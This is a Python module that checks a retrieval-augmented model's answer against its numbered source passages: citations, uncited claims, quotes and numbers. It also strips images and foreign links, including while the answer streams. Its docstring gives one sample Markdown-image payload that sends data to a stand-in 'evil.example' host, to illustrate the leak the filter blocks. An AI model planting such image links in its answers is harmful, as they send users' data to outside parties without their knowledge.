"""Checks on a model's draft answer against the numbered passages it was given.

Each check reports one problem once, and only where there is one:

- a citation marker naming a source that was not sent is removed and reported;
- a sentence that makes a claim with no citation is reported (headings, short fragments and a sentence
  saying the sources do not hold the answer make no claim);
- quoted text must appear in the passages its sentence cites (in any passage when it cites none), after
  ignoring width, case, whitespace and punctuation;
- every number must appear in the passages the answer cites; a number in a sentence that cites nothing
  (already reported, or making no claim) must appear in some passage that was sent;
- a Markdown or HTML image is always removed (a client that renders it would fetch its URL, and a planted
  `![x](http://evil.example/leak?q=...)` would send data away); a link or bare URL stays only when the URL is
  in a cited passage, otherwise it is removed (a link keeps its text) and reported.

Pure functions of the answer and the passages' texts: no I/O.
"""

from __future__ import annotations

import re
import unicodedata
from bisect import bisect_right
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field

from rag.numbers import NumberMention, find_numbers, numbers_match
from rag.text import CITATION_MARKER, CJK_CHARS, QUOTE, halfwidth, sentence_spans, split_sentences

__all__ = ["Verification", "parse_citations", "split_sentences", "verify_answer"]


@dataclass
class Verification:
    answer: str  # the answer with invalid markers removed
    cited: list[int] = field(default_factory=list)  # valid source numbers, first-appearance order, unique
    invalid_citations: list[int] = field(default_factory=list)  # numbers naming no source sent (removed)
    unsupported_sentences: list[str] = field(default_factory=list)  # claims with no citation
    misquotes: list[str] = field(default_factory=list)  # quoted text not found in the passages it cites
    removed_links: list[str] = field(default_factory=list)  # images, and URLs in no cited passage (removed)
    unsupported_numbers: list[str] = field(default_factory=list)  # numbers (as written) not in the sources
    warnings: list[str] = field(default_factory=list)  # one line a reader can act on per problem


_RANGE_SEPARATORS = "-–—~至"
_MAX_RANGE = 50  # [1-3] means 1, 2, 3; an absurd [1-9999] keeps its two ends rather than 9999 numbers

_ELLIPSIS = re.compile(r"…+|\.{3,}")
_CLAIM_UNITS = re.compile(f"[{CJK_CHARS}]|[A-Za-z0-9]+")
_MIN_CLAIM = 4  # CJK characters plus words: "是的。" or "Yes, it is." make no claim to cite

# A sentence saying the sources do not hold the answer needs no citation.
_NO_ANSWER = re.compile(
    r"(?:资料|来源|材料|文档|文件|段落|上下文|参考|检索|所给|提供的)[^。！？]*?(?:未|没有|并未|不|无)"
    r"(?:提及|提到|涉及|说明|包含|载明|给出|提供|找到|明确|相关)"
    r"|(?:无法|不能|难以)(?:回答|确定|判断|找到|得出)|找不到|未找到|没有找到"
    r"|(?i:\b(?:sources?|passages?|documents?|context|excerpts?|provided\s+(?:text|information|material))\b"
    r"[^.!?]*\b(?:not|no|never|\w+n't)\b[^.!?]*"
    r"\b(?:contain|mention|say|state|specify|include|provide|address|answer|discuss|give|information)"
    r"|\b(?:cannot|can't|unable\s+to)\s+(?:be\s+)?(?:answer|determine|find)"
    r"|\b(?:no|not\s+enough|insufficient)\s+(?:relevant\s+)?information\b)"
)


def parse_citations(text: str) -> list[tuple[int, int, list[int]]]:
    """(start, end, source numbers) for each citation marker in `text`, in order.

    [1] and 【1】 are markers, [1][2] is two; [1, 2], [1，2], 【1、2】 name two sources and [1-3] three.
    Full-width digits and brackets count the same as ASCII ones.
    """
    found = []
    for m in CITATION_MARKER.finditer(halfwidth(text)):
        numbers: list[int] = []
        for part in re.split(r"[,、;；]", m[0][1:-1]):
            ends = [int(d) for d in re.findall(r"\d+", part)]
            if (
                len(ends) == 2
                and any(sep in part for sep in _RANGE_SEPARATORS)
                and 0 <= ends[1] - ends[0] <= _MAX_RANGE
            ):
                ends = list(range(ends[0], ends[1] + 1))
            numbers.extend(n for n in ends if n not in numbers)
        found.append((m.start(), m.end(), numbers))
    return found


def verify_answer(answer: str, passages: Mapping[int, str]) -> Verification:
    """Check a draft answer against the passages that were sent, numbered as the model saw them.

    One problem gives one warning. A sentence whose only citation named no source is reported through that
    citation, not again as uncited. A number in a sentence that cites a source must be in a passage the
    answer cites; a number in a sentence that cites none (reported already, or making no claim) must be in
    some passage that was sent. Numbers inside a misquote are reported with the quote.
    """
    text, cited, invalid, orphans = _remove_invalid_citations(answer, passages)
    text, removed_links = remove_links(text, [passages[n] for n in cited])
    result = Verification(answer=text, cited=cited, invalid_citations=invalid, removed_links=removed_links)
    given = f"{len(passages)} {'was' if len(passages) == 1 else 'were'} given"
    result.warnings += [f"citation [{n}] refers to no source ({given}); removed" for n in invalid]
    result.warnings += [
        f"image removed: {_shorten(link)}"
        if _IMAGE.match(link)
        else f"link to {_shorten(link)} removed: not in a cited source"
        for link in removed_links
    ]

    spans = sentence_spans(text)
    cites_a_source: list[bool] = []
    misquoted: list[tuple[int, int]] = []
    for start, end in spans:
        sentence = text[start:end]
        own = [n for _, _, numbers in parse_citations(sentence) for n in numbers if n in passages]
        cites_a_source.append(bool(own))
        lost_its_citation = any(start <= p <= end for p in orphans)
        if not own and not lost_its_citation and not _makes_no_claim(sentence):
            result.unsupported_sentences.append(sentence)
            result.warnings.append(f"sentence has no citation: “{_shorten(sentence)}”")
        for m in QUOTE.finditer(sentence):
            quote = next(g for g in m.groups() if g is not None)
            if _quote_found(quote, [passages[n] for n in own] if own else list(passages.values())):
                continue
            misquoted.append((start + m.start(), start + m.end()))
            if quote not in result.misquotes:
                result.misquotes.append(quote)
                result.warnings.append(f"quote “{_shorten(quote)}” is not in {_where(own)}")

    in_sent = [m for source in passages.values() for m in find_numbers(source)]
    in_cited = [m for n in cited for m in find_numbers(passages[n])]
    reported: list[NumberMention] = []
    for mention in find_numbers(text):
        if any(qs <= mention.start < qe for qs, qe in misquoted):
            continue
        sentence_cites = cites_a_source[max(0, bisect_right(spans, (mention.start, len(text))) - 1)]
        known = in_cited if sentence_cites else in_sent
        if any(numbers_match(mention, k) for k in (*known, *reported)):
            continue
        reported.append(mention)
        result.unsupported_numbers.append(mention.text)
        result.warnings.append(f"number {mention.text} is not in {_where(cited if sentence_cites else [])}")
    return result


_URL_CHARS = r"[^\s<>\"'\[\]()（）【】，。、；！？]+"
_IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)|!\[[^\]\n]*\]\[[^\]\n]*\]|<img\b[^>]*>", re.IGNORECASE)
_LINKISH = re.compile(
    rf"(?P<image>{_IMAGE.pattern})"
    r"|\[(?P<label>[^\]\n]*)\]\(\s*<?(?P<target>[^)\s>]*)>?(?:\s+[^)\n]*)?\)"
    r"|<(?P<auto>(?:https?|ftp)://[^>\s]+)>"
    rf"|(?P<bare>(?:(?:https?|ftp)://|www\.){_URL_CHARS}(?<![.,;:!?]))",
    re.IGNORECASE,
)


def remove_links(answer: str, cited: list[str]) -> tuple[str, list[str]]:
    """The answer without images, and without links and URLs that no cited passage holds (a link keeps its
    text); and what was removed, as written, in order."""
    removed: list[str] = []

    def allowed(url: str) -> bool:
        url = url.rstrip(".,;:!?")
        return bool(url) and any(url in passage for passage in cited)

    def replace_one(m: re.Match[str]) -> str:
        if m["image"] is None:
            url = m["target"] if m["target"] is not None else m["auto"] or m["bare"]
            if allowed(url):
                return m[0]
        removed.append(m[0])
        if m["label"] is not None:  # a link keeps its words; "[1](url)" stays a citation marker
            return f"[{m['label']}]" if m["label"].strip().isdigit() else m["label"]
        return ""

    return _LINKISH.sub(replace_one, answer), removed


def _remove_invalid_citations(answer: str, passages: Mapping[int, str]) -> tuple[str, list[int], list[int], list[int]]:
    """The answer without the source numbers that name no passage; the valid numbers cited and the invalid
    ones, each unique in order of first appearance; and where, in the returned text, a marker went away
    whole. Such a marker goes with the spaces before it ("days [7]." becomes "days.")."""
    cited: list[int] = []
    invalid: list[int] = []
    orphans: list[int] = []
    pieces: list[str] = []
    done = length = 0
    for start, end, numbers in parse_citations(answer):
        valid = [n for n in numbers if n in passages]
        cited.extend(n for n in valid if n not in cited)
        invalid.extend(n for n in numbers if n not in passages and n not in invalid)
        if len(valid) == len(numbers):
            continue
        before = answer[done:start]
        if valid:
            separator = "，" if answer[start] == "【" else ", "
            kept = [before, answer[start], separator.join(map(str, valid)), answer[end - 1]]
        else:
            at_line_start = answer[:start].rstrip(" \t").endswith("\n") or not answer[:start].strip(" \t")
            if at_line_start:
                end += len(answer[end:]) - len(answer[end:].lstrip(" \t"))
            kept = [before.rstrip(" \t") if not at_line_start else before]
            orphans.append(length + len(kept[0]))
        pieces += kept
        length += sum(map(len, kept))
        done = end
    pieces.append(answer[done:])
    return "".join(pieces), cited, invalid, orphans


def _makes_no_claim(sentence: str) -> bool:
    """A heading, a fragment too short to claim anything, or a statement that the sources lack the answer."""
    bare = CITATION_MARKER.sub("", halfwidth(sentence)).strip()
    if bare.startswith("#") or bare.endswith((":", "：")):
        return True
    return len(_CLAIM_UNITS.findall(bare)) < _MIN_CLAIM or _NO_ANSWER.search(bare) is not None


def _squash(text: str) -> str:
    """Text compared as a reader would: full width as half, case folded, no whitespace or punctuation."""
    text = unicodedata.normalize("NFKC", text).casefold()
    return "".join(ch for ch in text if not ch.isspace() and not unicodedata.category(ch).startswith("P"))


def _quote_found(quote: str, sources: list[str]) -> bool:
    """Whether `quote` is in one of `sources`; an ellipsis in it stands for left-out text."""
    parts = [p for p in (_squash(part) for part in _ELLIPSIS.split(CITATION_MARKER.sub("", halfwidth(quote)))) if p]
    if not parts:
        return True
    for source in map(_squash, sources):
        position = 0
        for part in parts:
            position = source.find(part, position)
            if position < 0:
                break
            position += len(part)
        else:
            return True
    return False


def _where(cited: list[int]) -> str:
    if cited:
        return "the cited sources " + "".join(f"[{n}]" for n in cited)
    return "any of the sources given"


def _shorten(text: str, limit: int = 60) -> str:
    text = " ".join(text.split())
    return text if len(text) <= limit else text[: limit - 1] + "…"


# Where a link, an image or a URL may begin in a streamed answer, and where a sentence (or line) ends
_LINK_START = re.compile(r"!\[|\[|<|https?:|www\.", re.IGNORECASE)
_SENTENCE_END = re.compile(r"[。！？]|[.!?;](?=\s)|\n")
_HELD_TAIL = 7  # "https:" or "www." may be cut by a delta's end: the last characters wait for the next one


def guard_stream(deltas: Iterable[str], passages: list[str]) -> Iterator[str]:
    """A model's streamed answer with images and foreign links removed as it streams (remove_links against
    every passage sent, since the citations are known only at the end; the final answer is checked again
    against the cited ones). Text passes at once; from where a link could begin it waits for the end of its
    sentence, so a Markdown image never reaches a client that renders as it receives."""
    held = ""
    for delta in deltas:
        held += delta
        start = _LINK_START.search(held)
        if start is None:
            cut = max(0, len(held) - _HELD_TAIL)
            if cut:
                yield held[:cut]
                held = held[cut:]
            continue
        if start.start():
            yield held[: start.start()]
            held = held[start.start() :]
        ends = [m.end() for m in _SENTENCE_END.finditer(held)]
        if ends:
            yield remove_links(held[: ends[-1]], passages)[0]
            held = held[ends[-1] :]
    if held:
        yield remove_links(held, passages)[0]
